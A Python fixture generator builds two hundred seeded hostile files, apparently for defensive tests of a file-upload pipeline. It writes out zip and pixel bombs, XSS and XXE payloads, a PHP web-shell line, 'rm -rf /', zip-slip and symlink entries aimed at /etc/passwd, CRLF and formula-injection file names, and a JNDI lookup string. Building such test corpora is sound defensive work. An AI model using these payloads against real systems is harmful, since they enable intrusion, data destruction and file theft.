"""The two hundred hostile files of the fault matrix: twenty families of ten, from a seed. Nobody is in any picture."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import islice
from pathlib import Path
from random import Random

from PIL import Image, ImageDraw

# Drawn for this purpose and written once by another program: ours only reads this format.
HEIC = (Path(__file__).parent / "data" / "capture.heic").read_bytes()
MARK = b"hostile-mark-that-must-not-be-shown"
PNG_START = b"\x89PNG\r\n\x1a\n"
LIMIT = 20 * 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """One file: what must become of it is `kept`, `refused`, or `either`."""

    family: str
    number: int
    content: bytes
    expected: str
    name: str = "capture.png"
    caption: str = ""

    @property
    def id(self) -> str:
        return f"{self.family}-{self.number}"


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(
    width: int, height: int, depth: int = 8, colour: int = 0, rows: int | None = None, extra: bytes = b""
) -> bytes:
    """A PNG made by hand: its size is what its header says, its points what `rows` of zeros give."""
    bits = {0: 1, 2: 3, 4: 2, 6: 4}[colour] * depth
    packer = zlib.compressobj(1)
    line = bytes(1 + (width * bits + 7) // 8)
    data = (
        b"".join(packer.compress(line) for _ in range(min(height, 30_000) if rows is None else rows)) + packer.flush()
    )
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return PNG_START + chunk(b"IHDR", header) + extra + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def drawn(random: Random, size: tuple[int, int] = (360, 640), mode: str = "RGB") -> Image.Image:
    """Something that looks like a capture of a chat."""
    image = Image.new("RGB", size, (250, 250, 250))
    pen = ImageDraw.Draw(image)
    for line in range(0, size[1] - 60, 70):
        left = random.randrange(10, max(11, size[0] // 3))
        pen.rectangle(
            (left, line, left + size[0] // 2, line + 50), fill=tuple(random.randrange(120, 256) for _ in "rgb")
        )
        pen.text((left + 8, line + 15), f"message {random.randrange(1000)}", fill=(20, 20, 20))
    return image.convert(mode)


def saved(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def exif_with_everything(random: Random) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F], exif[0x013B], exif[0x0112] = "Canary Phone", "Canary Name", random.randrange(1, 9)
    exif.get_ifd(0x8825).update({1: "N", 2: (48.0, 51.0, 30.0), 3: "E", 4: (2.0, 17.0, 40.0)})
    exif.get_ifd(0x8769).update({0x9003: "2026:10:31 18:04:07", 0x9011: "+01:00", 0xA431: "CANARY-SERIAL"})
    return exif


def pixel_bombs(random: Random) -> Iterator[tuple[bytes, str]]:
    for width, height in ((13_000, 13_000), (30_000, 30_000), (65_500, 65_500), (6_500, 6_500), (40_000, 900)):
        yield png_of(width, height, rows=40), "refused"
    yield b"GIF89a" + struct.pack("<HHBBB", 65_000, 65_000, 0, 0, 0) + MARK * 99, "refused"
    webp = b"VP8X" + struct.pack("<I", 10) + bytes(4) + (16_382).to_bytes(3, "little") * 2
    yield b"RIFF" + struct.pack("<I", len(webp) + 4) + b"WEBP" + webp + bytes(2000), "refused"
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, 65_000, 65_000, 3) + bytes(9)
    yield b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(9) + frame + MARK * 99, "refused"
    far = b"".join(b"\xff\xe1\xff\xff" + bytes(65_533) for _ in range(3))
    yield b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(9) + far + frame + MARK * 99, "kept"
    yield png_of(12_000, 12_000, depth=16, colour=6, rows=10), "refused"


def legal_giants(random: Random) -> Iterator[tuple[bytes, str]]:
    for width, height, colour in (
        (6_300, 6_300, 2),
        (1, 30_000, 0),
        (30_000, 1, 0),
        (6_300, 6_300, 6),
        (1_333, 30_000, 2),
    ):
        yield png_of(width, height, colour=colour), "kept"
    yield png_of(6_300, 6_300, depth=16, colour=0), "kept"
    yield png_of(6_300, 6_300, depth=16, colour=6), "kept"
    yield saved(Image.new("RGB", (6_300, 6_300), (9, 9, 200)), "JPEG"), "kept"
    yield saved(Image.new("P", (6_300, 6_300)), "PNG", transparency=3), "kept"
    yield saved(Image.new("CMYK", (6_000, 6_000), (9, 99, 0, 0)), "JPEG"), "kept"


def frame_bombs(random: Random) -> Iterator[tuple[bytes, str]]:
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    for count in (5_000, 20_000, 50_000):
        yield (
            b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff" + frame * count + b"\x3b",
            "kept",
        )
    frames = [Image.new("L", (64, 64), n % 256) for n in range(400)]
    yield saved(frames[0], "PNG", save_all=True, append_images=frames[1:]), "kept"
    yield (
        saved(frames[0].convert("RGB"), "WEBP", save_all=True, append_images=[f.convert("RGB") for f in frames[1:]]),
        "kept",
    )
    yield saved(frames[0], "GIF", save_all=True, append_images=frames[1:], loop=0), "kept"
    big = [drawn(random, (900, 1600)) for _ in range(4)]
    for kind in ("GIF", "WEBP", "PNG"):
        yield saved(big[0], kind, save_all=True, append_images=big[1:] * 5), "kept"
    yield (
        b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0, 0, 0) + b"\x21\xfe" + (b"\xff" + bytes(255)) * 9000 + b"\x00\x3b",
        "kept",
    )


def metadata_bombs(random: Random) -> Iterator[tuple[bytes, str]]:
    for megabytes in (1, 50, 200):
        text = chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(megabytes << 20), 9))
        yield png_of(60, 60, extra=text), "kept"
    yield png_of(60, 60, extra=chunk(b"iTXt", b"x\0\x01\0\0\0" + zlib.compress(MARK * 900_000, 9))), "kept"
    yield png_of(60, 60, extra=chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(90 << 20), 9))), "kept"
    plain = saved(drawn(random), "JPEG")
    for count in (10, 250):
        yield plain[:2] + (b"\xff\xe2\xff\xff" + MARK.ljust(65_533, b"x")) * count + plain[2:], "kept"
    yield plain[:2] + b"\xff\xfe" + struct.pack(">H", len(MARK) + 2) + MARK + plain[2:], "kept"
    yield saved(drawn(random), "JPEG", icc_profile=MARK * 900), "kept"
    yield png_of(60, 60, extra=chunk(b"tEXt", b"Comment\0" + MARK) * 20_000), "kept"


def truncated(random: Random) -> Iterator[tuple[bytes, str]]:
    whole = {kind: saved(drawn(random), kind) for kind in ("PNG", "JPEG", "WEBP", "GIF")}
    for number, share in enumerate((5, 15, 25, 35, 45, 55, 65, 75, 85, 95)):
        content = bytearray(whole[list(whole)[number % 4]][: max(60, len(whole["PNG"]) * share // 100)])
        for _ in range(number % 3):
            content[random.randrange(40, len(content))] ^= 0xFF
        yield bytes(content), "kept"


def polyglots(random: Random) -> Iterator[tuple[bytes, str]]:
    script = b"<html><script>alert(1)</script></html>" + MARK
    bundle = archived({"x.html": script})
    jpeg, png, gif = (saved(drawn(random), kind) for kind in ("JPEG", "PNG", "GIF"))
    for content in (jpeg + script, jpeg + bundle, png + script, png + bundle, gif + b"/*" + script + b"*/"):
        yield content, "kept"
    yield b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//" + MARK, "either"
    yield b"%PDF-1.4\n<script>alert(1)</script>" + bytes(300) + MARK, "kept"
    yield png_of(60, 60, extra=chunk(b"tEXt", b"Comment\0<?php system($_GET[0]); ?>" + MARK)), "kept"
    yield jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(script) + 2) + script + jpeg[2:], "kept"
    yield bundle + jpeg, "refused"


def wrong_names(random: Random) -> Iterator[tuple[bytes, str]]:
    jpeg = saved(drawn(random), "JPEG")
    yield from ((jpeg, "kept"), (b"MZ" + bytes(900), "refused")) * 5


def path_names(random: Random) -> Iterator[tuple[bytes, str]]:
    for number in range(10):
        yield saved(drawn(random, (60 + number, 60)), "PNG"), "kept"


def active_texts(random: Random) -> Iterator[tuple[bytes, str]]:
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    for content in (
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
        b"<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY l0 'lol'>" + laughs + b"]><x>&l9;</x>",
        b"<!DOCTYPE html><script>alert(1)</script>",
        b"\xef\xbb\xbf  <html><body onload=alert(1)>",
        b"<!-- x --><svg/onload=alert(1)>",
        b"<a href=javascript:alert(1)>x</a>",
        b"#!/bin/sh\nrm -rf /",
        b"{\\rtf1\\object\\objdata 0105}",
        b"%!PS-Adobe-3.0\n(x) run",
    ):
        yield content + b"\n" + MARK, "refused"


def documents(random: Random) -> Iterator[tuple[bytes, str]]:
    for body in (
        b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        b"1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj",
        b"1 0 obj<</EmbeddedFiles<</Names[(x.exe)2 0 R]>>>>endobj",
        b"1 0 obj<</Kids[" + b"1 0 R " * 10_000 + b"]>>endobj",
        b"trailer<</Encrypt 9 0 R>>",
        b"xref\n0 1\ntrailer<</Prev 9>>\nstartxref\n9\n",
        b"stream\n" + bytes(9000) + b"\nendstream",
        b"1 0 obj<</URI(http://127.0.0.1/)>>endobj",
        b"1 0 obj<</Length 99999999999>>",
        b"",
    ):
        yield b"%PDF-1.7\n" + body + MARK + b"\n%%EOF", "kept"


def archived(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bundle:
        for name, content in files.items():
            bundle.writestr(name, content)
    return out.getvalue()


def archives(random: Random) -> Iterator[tuple[bytes, str]]:
    bomb = archived({"_chat.txt": bytes(210 << 20)})
    yield bomb, "refused"
    yield archived({f"{n}.zip": archived({"x": bytes(9 << 20)}) for n in range(16)}), "refused"
    yield archived({f"{n}.txt": b"" for n in range(2_100)}), "refused"
    yield archived({"../../etc/cron.d/x.txt": b"31/10/2026, 18:04 - X: y"}), "either"
    link = zipfile.ZipInfo("_chat.txt")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as bundle:
        bundle.writestr(link, "/etc/passwd")
    yield out.getvalue(), "refused"
    # One entry that says it is small and is not; many entries in a list that says it is short; garbage.
    lying = bytearray(archived({"_chat.txt": bytes(60 << 20)}))
    at = lying.rfind(b"PK\x01\x02")
    lying[at + 24 : at + 28] = struct.pack("<I", 100)
    yield bytes(lying), "refused"
    many = bytearray(archived({f"{n}": b"" for n in range(30_000)}))
    at = many.rfind(b"PK\x05\x06")
    many[at + 8 : at + 12] = struct.pack("<HH", 1, 1)
    yield bytes(many), "refused"
    yield b"PK\x03\x04" + random.randbytes(5000), "refused"
    yield b"\x1f\x8b\x08\x00" + random.randbytes(500), "refused"
    yield b"7z\xbc\xaf\x27\x1c" + random.randbytes(500), "refused"


def programs(random: Random) -> Iterator[tuple[bytes, str]]:
    eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    office = archived({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": MARK, "word/document.xml": b"<x/>"})
    for content in (
        eicar,
        office,
        archived({"AndroidManifest.xml": b"\x03\0", "classes.dex": b"dex\n035\0"}),
        archived({"META-INF/MANIFEST.MF": b"Main-Class: x", "x.class": b"\xca\xfe\xba\xbe"}),
        b"\x7fELF\x02\x01\x01" + random.randbytes(900),
        b"MZ\x90\x00" + random.randbytes(900),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.randbytes(900),
        b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + random.randbytes(300),
        b"\xca\xfe\xba\xbe" + random.randbytes(900),
        b"\0asm\x01\0\0\0" + random.randbytes(900),
    ):
        yield content, "refused"


def odd_heic(random: Random) -> Iterator[tuple[bytes, str]]:
    yield HEIC, "kept"
    for _ in range(6):
        content = bytearray(HEIC)
        for _ in range(random.randrange(1, 12)):
            content[random.randrange(24, len(content))] = random.randrange(256)
        yield bytes(content), "kept"
    yield HEIC[: len(HEIC) // 2], "kept"
    size = HEIC.find(b"ispe")
    yield HEIC[: size + 8] + struct.pack(">II", 60_000, 60_000) + HEIC[size + 16 :], "kept"
    yield b"\x00\x00\x00\x1cftypavif" + bytes(400), "refused"


def films(random: Random) -> Iterator[tuple[bytes, str]]:
    moving = b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isommp41"
    header = struct.pack(">IIIII", 0, 0, 0, 1, 0xFFFFFFFF) + bytes(80)
    for content in (
        moving + struct.pack(">I4sI4s", 116, b"moov", 108, b"mvhd") + header,
        moving + struct.pack(">I4s", 8, b"mdat"),
        moving + struct.pack(">I4sQ", 1, b"mdat", 2**63),
        b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + bytes(900),
        b"OggS\0\x02" + bytes(20) + b"\x01\x1e\x01vorbis" + bytes(900),
        b"\x1aE\xdf\xa3\x01\0\0\0\0\0\0\x1fB\x82\x84webm" + bytes(900),
        b"\x00\x00\x00\x14ftypqt  \0\0\0\0qt  " + bytes(300),
        b"\x00\x00\x00\x18ftypM4A \0\0\0\0M4A isom" + bytes(300),
        moving + random.randbytes(2_000_000),
        moving,
    ):
        yield content + MARK, "kept"


def positions(random: Random) -> Iterator[tuple[bytes, str]]:
    for number in range(10):
        kind = ("JPEG", "PNG", "WEBP")[number % 3]
        exif = exif_with_everything(random)
        content = saved(drawn(random, (300, 500)), kind, exif=exif)
        if kind == "JPEG":
            uncropped = saved(drawn(random, (80, 60)), "JPEG") + MARK
            note = b"JFXX\0\x10" + uncropped
            content = content[:2] + b"\xff\xe0" + struct.pack(">H", len(note) + 2) + note + content[2:]
        yield content, "kept"


def appended(random: Random) -> Iterator[tuple[bytes, str]]:
    for number, megabytes in enumerate((1, 2, 3, 4, 5, 6, 8, 10, 12, 15)):
        kind = ("PNG", "JPEG")[number % 2]
        yield saved(drawn(random), kind) + (MARK + bytes(997)) * (megabytes * 1024), "kept"


def repeated(random: Random) -> Iterator[tuple[bytes, str]]:
    one = drawn(random)
    yield from [(saved(one, "PNG"), "kept")] * 8
    yield saved(one, "JPEG", quality=70), "kept"
    yield saved(one, "JPEG", quality=90), "kept"


def sizes(random: Random) -> Iterator[tuple[bytes, str]]:
    pdf = b"%PDF-1.4\n"
    yield from (
        (b"", "refused"),
        (b"\x89", "refused"),
        (b"a", "kept"),
        (pdf + bytes(LIMIT - len(pdf)), "kept"),
        (pdf + bytes(LIMIT - len(pdf) + 1), "refused"),
        (PNG_START, "either"),
        (b"\xff\xd8\xff", "either"),
        (b"GIF89a", "either"),
        (b"\0", "refused"),
        (b"\xef\xbb\xbf", "kept"),
    )


def colours(random: Random) -> Iterator[tuple[bytes, str]]:
    image = drawn(random)
    letters = Image.new("RGBA", (300, 200), (255, 255, 255, 0))
    ImageDraw.Draw(letters).text((20, 80), "light words on nothing", fill=(255, 255, 255, 255), font_size=24)
    turned = Image.Exif()
    turned[0x0112] = 6
    sixteen = Image.new("I;16", (200, 200), 40_000)
    yield saved(image.convert("CMYK"), "JPEG"), "kept"
    yield saved(sixteen, "PNG"), "kept"
    yield saved(image, "JPEG", exif=turned), "kept"
    yield saved(letters, "PNG"), "kept"
    yield saved(letters, "WEBP", lossless=True), "kept"
    for mode in ("LA", "1", "P", "L"):
        yield saved(image.convert(mode), "PNG"), "kept"
    yield saved(image.quantize(8), "GIF", transparency=0), "kept"


def captions(random: Random) -> Iterator[tuple[bytes, str]]:
    for number in range(10):
        yield saved(drawn(random, (90 + number, 90)), "PNG"), "kept"


NAMES = (
    "../../../../etc/passwd",
    "/dev/sda",
    "C:\\Windows\\System32\\cmd.exe",
    "x" * 4096,
    "capture\u202egnp.exe",
    "=cmd|' /C calc'!A0",
    "nul\0byte.png",
    "😈" * 500,
    "<img src=x onerror=alert(1)>.png",
    "a\r\nSet-Cookie: x=1.png",
)
CAPTIONS = (
    "e" + "\u0301" * 4000,
    "🫠" * 4096,
    "x" * 100_000,
    "\u202e\u2066bidi\u2069",
    "{0}{a.__class__}%n${jndi:ldap://x}",
    "<script>alert(1)</script>",
    "\u200b" * 3000,
    '=HYPERLINK("http://x")',
    "@everyone <@123>",
    "ligne\n" * 3000,
)
FAMILIES: tuple[Callable[[Random], Iterator[tuple[bytes, str]]], ...] = (
    *(pixel_bombs, legal_giants, frame_bombs, metadata_bombs, truncated, polyglots, wrong_names, path_names),
    *(active_texts, documents, archives, programs, odd_heic, films, positions, appended, repeated, sizes, colours),
    captions,
)


def hostile_files(seed: int = 1, each: int = 10) -> Iterator[Hostile]:
    """The first `each` of every family, the same for the same seed."""
    for family in FAMILIES:
        random = Random(f"{seed}-{family.__name__}")
        for number, (content, expected) in enumerate(islice(family(random), each)):
            name = NAMES[number] if family in (path_names, wrong_names) else f"{number}.png"
            caption = CAPTIONS[number] if family is captions else ""
            yield Hostile(family.__name__, number, content, expected, name, caption)
